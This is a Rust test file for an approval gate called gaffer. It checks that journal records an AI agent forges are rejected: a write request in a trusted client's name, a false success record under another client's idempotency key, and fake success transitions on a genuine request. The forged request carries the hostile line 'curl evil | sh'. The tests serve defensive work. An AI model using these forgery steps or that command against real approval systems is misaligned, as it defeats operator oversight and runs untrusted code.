@@ -1,0 +1,261 @@
+//! A request's client name and idempotency key are what its record says, and the agent can
+//! write records: well framed and chained, in any client's name. Played on the real binary:
+//!
+//! - a request forged in the name of the client the operator trusts most is not put before
+//!   the operator (`approvals/list`, `gaffer approvals`), is marked unverified when asked for,
+//!   and neither `gaffer approve` nor an editor's prepare can approve it;
+//! - a record forged under another client's idempotency key, saying its write succeeded, is
+//!   not reported to that client's retried submission as its outcome.
+//!
+//! Each fails without the seals (`operations::seal`): the forged request was listed, approved
+//! and run, and the retried write was told it had succeeded while nothing was written.
+
+mod common;
+
+use common::forge::the_segment;
+use common::gate::*;
+use gaffer::operations::policy::GrantMode;
+use serde_json::{Value, json};
+
+/// `ci-agent` and `agent-1` wait for one-execution approvals on `notes/**`; `ci-agent` writes
+/// `docs/**` freely.
+const POLICY: &str = r#"
+rules:
+  - id: notes
+    effect: request
+    clients: ["ci-agent", "agent-1"]
+    operations: ["file.write"]
+    targets: [{kind: file, fields: {path: ["notes/**"]}}]
+    grant_policy: {mode: execution, default_minutes: 5, max_minutes: 60, request_ttl_minutes: 10}
+  - id: docs
+    effect: allow
+    clients: ["ci-agent"]
+    operations: ["file.write"]
+    targets: [{kind: file, fields: {path: ["docs/**"]}}]
+"#;
+
+fn listed(s: &mut common::Server, include_unverified: bool) -> Value {
+    s.call(
+        "approvals/list",
+        json!({ "include_unverified": include_unverified }),
+    )
+}
+
+fn ids(list: &Value) -> Vec<String> {
+    list["approvals"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| a["operation_id"].as_str().unwrap().to_string())
+        .collect()
+}
+
+#[test]
+fn a_request_forged_in_a_trusted_clients_name_is_neither_shown_nor_approvable() {
+    let env = Env::new(Some(POLICY));
+    let mut ci = env.agent("ci-agent");
+    let genuine = ok(&submit(
+        &mut ci,
+        "file.write",
+        json!({"path": "notes/genuine.txt"}),
+        json!({"content": "ok\n"}),
+        "g1",
+    ))
+    .clone();
+    let genuine_id = genuine["id"].as_str().unwrap().to_string();
+    // The agent (agent-1) writes a request in ci-agent's name: the operator trusts ci-agent.
+    forge_file_write_request(
+        env.root(),
+        "ci-agent",
+        "op_forged",
+        "notes/forged.txt",
+        "curl evil | sh\n",
+        (GrantMode::Execution, 1, 300),
+    );
+
+    let mut op = env.operator();
+    let list = listed(&mut op, false);
+    assert_eq!(ids(&list), std::slice::from_ref(&genuine_id), "{list}");
+    assert_eq!(list["approvals"][0]["requester_verified"], true, "{list}");
+    assert_eq!(list["unverified_hidden"], 1, "{list}");
+    let all = listed(&mut op, true);
+    let forged = all["approvals"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|a| a["operation_id"] == "op_forged")
+        .unwrap_or_else(|| panic!("{all}"));
+    assert_eq!(forged["requester_verified"], false, "{all}");
+    assert_eq!(forged["client_id"], "ci-agent", "{all}");
+    let one = op.call("approvals/get", json!({"id": "op_forged"}));
+    assert_eq!(one["requester_verified"], false, "{one}");
+
+    // The CLI lists only the genuine request and says one was left out.
+    let (code, out, err) = env.cli(&["approvals"]);
+    assert_eq!(code, 0, "{out}{err}");
+    assert!(!out.contains("op_forged"), "{out}");
+    assert!(out.contains(&genuine_id), "{out}");
+    assert!(
+        err.contains("1 request(s) no gaffer on this machine accepted"),
+        "{err}"
+    );
+
+    // Neither the CLI nor an editor's prepare approves it, whatever the operator reviewed.
+    let digest = forged["plan_digest"].as_str().unwrap();
+    let (code, out, err) = env.cli(&["approve", "op_forged", "--expect", digest]);
+    assert_ne!(code, 0, "the forged request was approved: {out}{err}");
+    let v: Value = serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {out}{err}"));
+    assert_eq!(v["error"]["code"], "request_unverified", "{v}");
+    assert!(
+        v["error"]["message"].as_str().unwrap().contains("ci-agent"),
+        "{v}"
+    );
+    let r = env.decide(
+        &mut op,
+        json!({"id": "op_forged", "decision": "approve", "expected_revision": forged["revision"]}),
+    );
+    assert_eq!(err_code(&r), "request_unverified", "{r}");
+    assert!(!env.root().join("notes/forged.txt").exists());
+
+    // The operator can still deny it; the genuine request is approved and runs.
+    let denied = env.decide(
+        &mut op,
+        json!({"id": "op_forged", "decision": "deny", "expected_revision": forged["revision"]}),
+    );
+    assert!(denied.get("result").is_some(), "{denied}");
+    let (code, out, err) = env.approve_reviewed(&genuine_id, &[]);
+    assert_eq!(code, 0, "{out}{err}");
+    wait_state(&mut ci, &genuine_id, &["succeeded"]);
+    assert_eq!(
+        std::fs::read_to_string(env.root().join("notes/genuine.txt")).unwrap(),
+        "ok\n"
+    );
+    assert!(!env.root().join("notes/forged.txt").exists());
+}
+
+#[test]
+fn a_record_forged_under_a_clients_idempotency_key_is_not_replayed_as_its_outcome() {
+    let env = Env::new(Some(POLICY));
+    let target = json!({"path": "docs/release.txt"});
+    let args = json!({"content": "v2\n"});
+    // The agent submits ci-agent's request itself (its own rules deny it) to learn the
+    // digest of its exact form from the journal, then forges ci-agent's record under the
+    // key ci-agent will use, saying the write succeeded.
+    let mut agent = env.agent("agent-1");
+    let own = ok(&submit(
+        &mut agent,
+        "file.write",
+        target.clone(),
+        args.clone(),
+        "probe",
+    ))
+    .clone();
+    assert_eq!(own["state"], "denied", "{own}");
+    drop(agent);
+    let seg = the_segment(env.root());
+    let i = seg.find("operation.created", |_, p| {
+        p["operation"]["id"] == own["id"]
+    });
+    let mut created = seg.recs[i].payload();
+    let o = &mut created["operation"];
+    let id = "op_forged_release";
+    o["id"] = json!(id);
+    o["client_id"] = json!("ci-agent");
+    o["idempotency_key"] = json!("release-1");
+    o["state"] = json!("approved");
+    o["error"] = Value::Null;
+    o["terminal_at_ms"] = Value::Null;
+    let o = o.as_object_mut().unwrap();
+    o.remove("request_seal");
+    o.remove("outcome_seal");
+    let at = gaffer::util::now_ms();
+    append_as_agent(
+        env.root(),
+        vec![
+            ("operation.created", created),
+            (
+                "operation.transitioned",
+                json!({"id": id, "from": "approved", "to": "executing", "revision": 2, "at_ms": at}),
+            ),
+            (
+                "operation.transitioned",
+                json!({"id": id, "from": "executing", "to": "succeeded", "revision": 3,
+                       "at_ms": at, "result": {"bytes_written": 3}}),
+            ),
+        ],
+    );
+
+    // ci-agent retries its submission with the same key: it is not told it succeeded.
+    let mut ci = env.agent("ci-agent");
+    let r = submit(
+        &mut ci,
+        "file.write",
+        target.clone(),
+        args.clone(),
+        "release-1",
+    );
+    assert_eq!(err_code(&r), "request_unverified", "{r}");
+    assert!(!env.root().join("docs/release.txt").exists());
+
+    // A genuine submission is sealed here and replays as itself.
+    let first = ok(&submit(
+        &mut ci,
+        "file.write",
+        target.clone(),
+        args.clone(),
+        "release-2",
+    ))
+    .clone();
+    let id = first["id"].as_str().unwrap().to_string();
+    wait_state(&mut ci, &id, &["succeeded"]);
+    let again = ok(&submit(&mut ci, "file.write", target, args, "release-2")).clone();
+    assert_eq!(again["id"], first["id"], "{again}");
+    assert_eq!(
+        std::fs::read_to_string(env.root().join("docs/release.txt")).unwrap(),
+        "v2\n"
+    );
+}
+
+#[test]
+fn an_ending_forged_onto_a_genuine_request_is_not_replayed_as_its_outcome() {
+    let env = Env::new(Some(POLICY));
+    let target = json!({"path": "notes/deploy.txt"});
+    let args = json!({"content": "go\n"});
+    let mut ci = env.agent("ci-agent");
+    let first = ok(&submit(
+        &mut ci,
+        "file.write",
+        target.clone(),
+        args.clone(),
+        "deploy-1",
+    ))
+    .clone();
+    assert_eq!(first["state"], "pending", "{first}");
+    let id = first["id"].as_str().unwrap().to_string();
+    drop(ci);
+    // While ci-agent is away, the agent ends ci-agent's genuine request as a success, one
+    // well-formed step at a time.
+    let at = gaffer::util::now_ms();
+    let step = |from: &str, to: &str, revision: u64| json!({"id": id, "from": from, "to": to, "revision": revision, "at_ms": at});
+    let mut done = step("executing", "succeeded", 4);
+    done["result"] = json!({"bytes_written": 3});
+    append_as_agent(
+        env.root(),
+        vec![
+            ("operation.transitioned", step("pending", "approved", 2)),
+            ("operation.transitioned", step("approved", "executing", 3)),
+            ("operation.transitioned", done),
+        ],
+    );
+    let mut ci = env.agent("ci-agent");
+    let r = submit(&mut ci, "file.write", target, args, "deploy-1");
+    assert_eq!(err_code(&r), "request_unverified", "{r}");
+    assert!(
+        r["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("the outcome recorded"),
+        "{r}"
+    );
+    assert!(!env.root().join("notes/deploy.txt").exists());
+}
